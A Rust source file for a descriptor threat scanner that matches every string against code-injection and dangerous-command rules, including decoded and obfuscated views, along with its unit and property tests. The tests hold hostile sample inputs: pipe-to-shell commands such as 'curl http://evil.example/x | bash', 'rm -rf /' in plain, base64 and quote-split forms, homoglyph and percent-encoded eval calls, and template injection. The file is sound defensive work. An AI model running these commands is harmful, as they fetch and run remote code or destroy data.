//! Adversarial pattern scan over every string in a descriptor.
//!
//! Each string leaf (object keys included) is matched in several views:
//! normalized, squeezed, and recursively decoded up to a fixed depth. Work
//! per leaf is bounded by the field length cap and the decode budget, so a
//! hostile descriptor cannot make the scan run away.

pub mod decode;
pub mod normalize;

use std::collections::BTreeSet;
use std::sync::LazyLock;

use jade_rules::{RuleTables, SignatureSet, compile_extra_patterns};
use regex::Regex;
use serde_json::Value;

use crate::config::ScannerConfig;
use crate::descriptor::{SIGNATURES_KEY, SecurityPolicy};
use crate::issue::{IssueKind, Layer, ValidationIssue, code};

use self::decode::{Encoding, decode_candidates};
use self::normalize::{canonical, normalize, squeeze};

static TEMPLATE_BLOCK: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\{\{(.*?)\}\}").unwrap());

const TEMPLATE_RULE: &str = "template-expression";
const POLICY_RULE: &str = "policy-dangerous-pattern";
const SNIPPET_CHARS: usize = 60;

#[derive(Debug, Clone, PartialEq, Eq)]
struct Hit {
    code: &'static str,
    rule: String,
    category: String,
    matched: String,
    via: Vec<Encoding>,
}

impl Hit {
    fn message(&self) -> String {
        let snippet: String = self.matched.chars().take(SNIPPET_CHARS).collect();
        let mut message = format!(
            "{} rule '{}' matched '{snippet}'",
            self.category, self.rule
        );
        if !self.via.is_empty() {
            let chain: Vec<String> = self.via.iter().map(ToString::to_string).collect();
            message.push_str(&format!(" after {} decoding", chain.join(" > ")));
        }
        message
    }
}

/// Scanner bound to one rule snapshot and one descriptor's policy.
pub struct ThreatScanner<'a> {
    tables: &'a RuleTables,
    config: &'a ScannerConfig,
    extra: Vec<Regex>,
}

struct Walk {
    issues: Vec<ValidationIssue>,
    seen: BTreeSet<(String, String)>,
    leaves: usize,
    exhausted: bool,
}

impl Walk {
    fn limit(&mut self, location: &str, message: String) {
        self.issues.push(
            ValidationIssue::critical(
                Layer::Threat,
                IssueKind::ThreatDetected,
                code::SCAN_LIMIT_EXCEEDED,
                message,
            )
            .at(location),
        );
    }

    fn record(&mut self, location: &str, hits: Vec<Hit>) {
        for hit in hits {
            if !self.seen.insert((location.to_owned(), hit.rule.clone())) {
                continue;
            }
            self.issues.push(
                ValidationIssue::critical(
                    Layer::Threat,
                    IssueKind::ThreatDetected,
                    hit.code,
                    hit.message(),
                )
                .at(location),
            );
        }
    }
}

fn child(location: &str, key: &str) -> String {
    if location.is_empty() {
        key.to_owned()
    } else {
        format!("{location}.{key}")
    }
}

impl<'a> ThreatScanner<'a> {
    #[must_use]
    pub fn new(tables: &'a RuleTables, policy: &SecurityPolicy, config: &'a ScannerConfig) -> Self {
        Self {
            tables,
            config,
            extra: compile_extra_patterns(&policy.dangerous_patterns),
        }
    }

    /// Scan the whole descriptor. The top-level `signatures` subtree is skipped.
    #[must_use]
    pub fn scan(&self, value: &Value) -> Vec<ValidationIssue> {
        let mut walk = Walk {
            issues: Vec::new(),
            seen: BTreeSet::new(),
            leaves: 0,
            exhausted: false,
        };
        let mut stack: Vec<(&Value, String, usize)> = vec![(value, String::new(), 0)];

        while let Some((node, location, depth)) = stack.pop() {
            if walk.exhausted {
                break;
            }
            if depth > self.config.max_json_depth {
                walk.limit(
                    &location,
                    format!("nesting deeper than {} levels", self.config.max_json_depth),
                );
                continue;
            }
            match node {
                Value::String(text) => self.leaf(&mut walk, text, &location),
                Value::Array(items) => {
                    for (i, item) in items.iter().enumerate().rev() {
                        stack.push((item, format!("{location}[{i}]"), depth + 1));
                    }
                }
                Value::Object(map) => {
                    for (key, item) in map.iter().rev() {
                        if depth == 0 && key == SIGNATURES_KEY {
                            continue;
                        }
                        let path = child(&location, key);
                        self.leaf(&mut walk, key, &path);
                        stack.push((item, path, depth + 1));
                    }
                }
                Value::Null | Value::Bool(_) | Value::Number(_) => {}
            }
        }

        if !walk.exhausted {
            self.scan_joined_params(value, &mut walk);
        }
        walk.issues
    }

    fn leaf(&self, walk: &mut Walk, text: &str, location: &str) {
        if walk.exhausted {
            return;
        }
        walk.leaves += 1;
        if walk.leaves > self.config.max_string_leaves {
            walk.exhausted = true;
            walk.limit(
                location,
                format!(
                    "more than {} strings, remaining content not scanned",
                    self.config.max_string_leaves
                ),
            );
            return;
        }
        if text.len() > self.config.max_field_len {
            walk.limit(
                location,
                format!(
                    "field of {} bytes exceeds the {} byte scan limit",
                    text.len(),
                    self.config.max_field_len
                ),
            );
            return;
        }
        let mut hits = Vec::new();
        let mut budget = self
            .config
            .max_decode_candidates
            .saturating_mul(self.config.decode_depth());
        self.scan_views(text, &mut Vec::new(), &mut budget, &mut hits);
        walk.record(location, hits);
    }

    fn scan_views(
        &self,
        text: &str,
        via: &mut Vec<Encoding>,
        budget: &mut usize,
        hits: &mut Vec<Hit>,
    ) {
        let normalized = normalize(text);
        self.match_text(&normalized, via, hits);
        if let Some(squeezed) = squeeze(&normalized) {
            self.match_text(&squeezed, via, hits);
        }
        if via.len() >= self.config.decode_depth() || *budget == 0 {
            return;
        }
        for decoded in decode_candidates(&canonical(text), self.config.max_decode_candidates) {
            if *budget == 0 {
                break;
            }
            *budget -= 1;
            via.push(decoded.encoding);
            self.scan_views(&decoded.text, via, budget, hits);
            via.pop();
        }
    }

    fn match_set(
        set: &SignatureSet,
        code: &'static str,
        text: &str,
        via: &[Encoding],
        hits: &mut Vec<Hit>,
    ) {
        for m in set.scan(text) {
            hits.push(Hit {
                code,
                rule: m.rule.to_owned(),
                category: m.category.to_string(),
                matched: m.matched,
                via: via.to_vec(),
            });
        }
    }

    fn match_text(&self, text: &str, via: &[Encoding], hits: &mut Vec<Hit>) {
        Self::match_set(self.tables.injection(), code::CODE_INJECTION, text, via, hits);
        Self::match_set(self.tables.dangerous(), code::DANGEROUS_COMMAND, text, via, hits);

        for re in &self.extra {
            if let Some(m) = re.find(text) {
                hits.push(Hit {
                    code: code::DANGEROUS_COMMAND,
                    rule: POLICY_RULE.to_owned(),
                    category: "policy".to_owned(),
                    matched: m.as_str().to_owned(),
                    via: via.to_vec(),
                });
            }
        }

        let schema = self.tables.schema();
        for caps in TEMPLATE_BLOCK.captures_iter(text) {
            let inner = caps.get(1).map_or("", |m| m.as_str());
            if !schema.is_template_path(inner) {
                hits.push(Hit {
                    code: code::CODE_INJECTION,
                    rule: TEMPLATE_RULE.to_owned(),
                    category: "template_injection".to_owned(),
                    matched: caps[0].to_owned(),
                    via: via.to_vec(),
                });
            }
        }
    }

    /// Join each node's params strings to catch payloads split across fields.
    fn scan_joined_params(&self, value: &Value, walk: &mut Walk) {
        let Some(nodes) = value
            .pointer("/execution_dag/nodes")
            .and_then(Value::as_array)
        else {
            return;
        };
        for (i, node) in nodes.iter().enumerate() {
            let Some(params) = node.get("params") else {
                continue;
            };
            let prefix = format!("execution_dag.nodes[{i}].params");
            let joined = self.join_strings(params);
            if joined.is_empty() {
                continue;
            }
            let already: BTreeSet<&str> = walk
                .seen
                .iter()
                .filter(|(loc, _)| loc.starts_with(&prefix))
                .map(|(_, rule)| rule.as_str())
                .collect();
            let mut hits = Vec::new();
            let normalized = normalize(&joined);
            self.match_text(&normalized, &[], &mut hits);
            if let Some(squeezed) = squeeze(&normalized) {
                self.match_text(&squeezed, &[], &mut hits);
            }
            hits.retain(|h| !already.contains(h.rule.as_str()));
            walk.record(&format!("{prefix} (joined)"), hits);
        }
    }

    /// Space-joined string leaves, bounded by the field length cap.
    fn join_strings(&self, params: &Value) -> String {
        let mut out = String::new();
        let mut stack = vec![(params, 0usize)];
        while let Some((node, depth)) = stack.pop() {
            if depth > self.config.max_json_depth {
                continue;
            }
            match node {
                Value::String(text) => {
                    if out.len() + text.len() + 1 > self.config.max_field_len {
                        break;
                    }
                    if !out.is_empty() {
                        out.push(' ');
                    }
                    out.push_str(text);
                }
                Value::Array(items) => stack.extend(items.iter().rev().map(|v| (v, depth + 1))),
                Value::Object(map) => stack.extend(map.values().rev().map(|v| (v, depth + 1))),
                _ => {}
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;
    use serde_json::json;

    use super::*;

    fn scan_with(
        value: &Value,
        policy: &SecurityPolicy,
        config: &ScannerConfig,
    ) -> Vec<ValidationIssue> {
        let tables = RuleTables::builtin();
        ThreatScanner::new(&tables, policy, config).scan(value)
    }

    fn scan(value: &Value) -> Vec<ValidationIssue> {
        scan_with(value, &SecurityPolicy::default(), &ScannerConfig::default())
    }

    fn codes(issues: &[ValidationIssue]) -> Vec<&str> {
        issues.iter().map(|i| i.code.as_str()).collect()
    }

    #[test]
    fn clean_descriptor() {
        let value = json!({
            "metadata": {"description": "Fetch the forecast for {{input.city}}"},
            "execution_dag": {"nodes": [
                {"id": "fetch", "params": {"url": "https://api.weather.example/v1"}}
            ]}
        });
        assert!(scan(&value).is_empty());
    }

    #[test]
    fn pipe_to_shell_is_dangerous() {
        let value = json!({
            "execution_dag": {"nodes": [{"params": {"cmd": "curl http://x | sh"}}]}
        });
        let issues = scan(&value);
        assert_eq!(codes(&issues), [code::DANGEROUS_COMMAND]);
        assert_eq!(
            issues[0].location.as_deref(),
            Some("execution_dag.nodes[0].params.cmd")
        );
        assert!(issues[0].message.contains("remote_execution"));
    }

    #[test]
    fn injection_in_object_key() {
        let value = json!({"metadata": {"eval(payload)": 1}});
        assert_eq!(codes(&scan(&value)), [code::CODE_INJECTION]);
    }

    #[test]
    fn homoglyph_evasion() {
        let value = json!({"note": "еvаl(х)"});
        assert_eq!(codes(&scan(&value)), [code::CODE_INJECTION]);
    }

    #[test]
    fn quote_split_evasion() {
        let value = json!({"note": "r''m -r''f /tmp"});
        assert_eq!(codes(&scan(&value)), [code::DANGEROUS_COMMAND]);
    }

    #[test]
    fn nested_base64_within_bound() {
        let once = STANDARD.encode("rm -rf /");
        let twice = STANDARD.encode(&once);
        let thrice = STANDARD.encode(&twice);
        for encoded in [once, twice, thrice] {
            let issues = scan(&json!({"note": encoded}));
            assert_eq!(codes(&issues), [code::DANGEROUS_COMMAND], "{encoded}");
            assert!(issues[0].message.contains("base64"));
        }
    }

    #[test]
    fn base64_beyond_bound_is_not_decoded() {
        let mut encoded = "rm -rf /".to_owned();
        for _ in 0..4 {
            encoded = STANDARD.encode(&encoded);
        }
        assert!(scan(&json!({"note": encoded})).is_empty());
    }

    #[test]
    fn percent_encoded_payload() {
        let value = json!({"url": "https://h.example/?q=%65%76%61%6c%28x%29"});
        assert_eq!(codes(&scan(&value)), [code::CODE_INJECTION]);
    }

    #[test]
    fn trailing_invalid_escape_still_decoded() {
        let value = json!({"note": "rm%20-rf%20%2F%FF"});
        assert_eq!(codes(&scan(&value)), [code::DANGEROUS_COMMAND]);
    }

    #[test]
    fn base64_glued_to_prefix() {
        let payload = STANDARD.encode("curl http://x | sh");
        for note in [
            format!("ab{payload}"),
            format!("run-{payload}"),
            format!("/tmp/{payload}"),
        ] {
            let issues = scan(&json!({ "note": note }));
            assert!(
                issues.iter().any(|i| i.code == code::DANGEROUS_COMMAND),
                "{note}: {issues:#?}"
            );
        }
    }

    #[test]
    fn template_expression_injection() {
        assert_eq!(
            codes(&scan(&json!({"t": "{{ 7*7 }}"}))),
            [code::CODE_INJECTION]
        );
        assert!(scan(&json!({"t": "{{ steps.fetch.body }}"})).is_empty());
    }

    #[test]
    fn signatures_subtree_skipped() {
        let value = json!({
            "signatures": [{"bytes": "eval(x)"}],
            "meta": {"signatures": "eval(x)"}
        });
        let issues = scan(&value);
        assert_eq!(issues.len(), 1);
        assert_eq!(issues[0].location.as_deref(), Some("meta.signatures"));
    }

    #[test]
    fn split_payload_across_params() {
        let value = json!({"execution_dag": {"nodes": [
            {"params": {"a": "curl http://evil.example/x", "b": "| bash"}}
        ]}});
        let issues = scan(&value);
        assert_eq!(codes(&issues), [code::DANGEROUS_COMMAND]);
        assert_eq!(
            issues[0].location.as_deref(),
            Some("execution_dag.nodes[0].params (joined)")
        );
    }

    #[test]
    fn duplicate_hits_collapse() {
        let issues = scan(&json!({"note": "eval(a); eval(b); EVAL(c)"}));
        assert_eq!(issues.len(), 1);
    }

    #[test]
    fn extra_policy_patterns_are_additive() {
        let policy = SecurityPolicy {
            dangerous_patterns: vec!["drop_all_users".into(), String::new()],
            ..SecurityPolicy::default()
        };
        let issues = scan_with(
            &json!({"q": "call DROP_ALL_USERS now"}),
            &policy,
            &ScannerConfig::default(),
        );
        assert_eq!(codes(&issues), [code::DANGEROUS_COMMAND]);
        assert!(issues[0].message.contains(POLICY_RULE));
    }

    #[test]
    fn oversize_field_rejected_unscanned() {
        let config = ScannerConfig {
            max_field_len: 16,
            ..ScannerConfig::default()
        };
        let issues = scan_with(
            &json!({"note": "a harmless but rather long sentence"}),
            &SecurityPolicy::default(),
            &config,
        );
        assert_eq!(codes(&issues), [code::SCAN_LIMIT_EXCEEDED]);
    }

    #[test]
    fn leaf_limit_stops_walk() {
        let config = ScannerConfig {
            max_string_leaves: 3,
            ..ScannerConfig::default()
        };
        let value = json!({"a": ["x", "y", "z", "w", "v"]});
        let issues = scan_with(&value, &SecurityPolicy::default(), &config);
        assert_eq!(codes(&issues), [code::SCAN_LIMIT_EXCEEDED]);
    }

    #[test]
    fn depth_limit() {
        let config = ScannerConfig {
            max_json_depth: 2,
            ..ScannerConfig::default()
        };
        let value = json!({"a": {"b": {"c": {"d": "x"}}}});
        let issues = scan_with(&value, &SecurityPolicy::default(), &config);
        assert_eq!(codes(&issues), [code::SCAN_LIMIT_EXCEEDED]);
    }

    mod proptest_positions {
        use proptest::prelude::*;

        use super::*;

        fn nest(payload: &str, keys: &[String], wrap_in_array: bool) -> Value {
            let mut value = Value::String(payload.to_owned());
            for key in keys.iter().rev() {
                if wrap_in_array {
                    value = Value::Array(vec![json!(1), value]);
                }
                let mut map = serde_json::Map::new();
                map.insert(key.clone(), value);
                value = Value::Object(map);
            }
            value
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(64))]

            #[test]
            fn dangerous_substring_found_at_any_depth(
                keys in proptest::collection::vec("[a-z]{1,8}", 1..12),
                prefix in "[a-z ]{0,20}",
                suffix in "[a-z ]{0,20}",
                payload in prop::sample::select(
                    vec!["rm -rf /", "eval(", "curl http://x | sh", "sudo su"]
                ),
                wrap in any::<bool>(),
            ) {
                prop_assume!(keys[0] != "signatures");
                let text = format!("{prefix} {payload} {suffix}");
                let issues = scan(&nest(&text, &keys, wrap));
                prop_assert!(
                    issues.iter().any(|i| {
                        i.code == code::DANGEROUS_COMMAND || i.code == code::CODE_INJECTION
                    }),
                    "no finding for {text:?}"
                );
            }
        }
    }
}
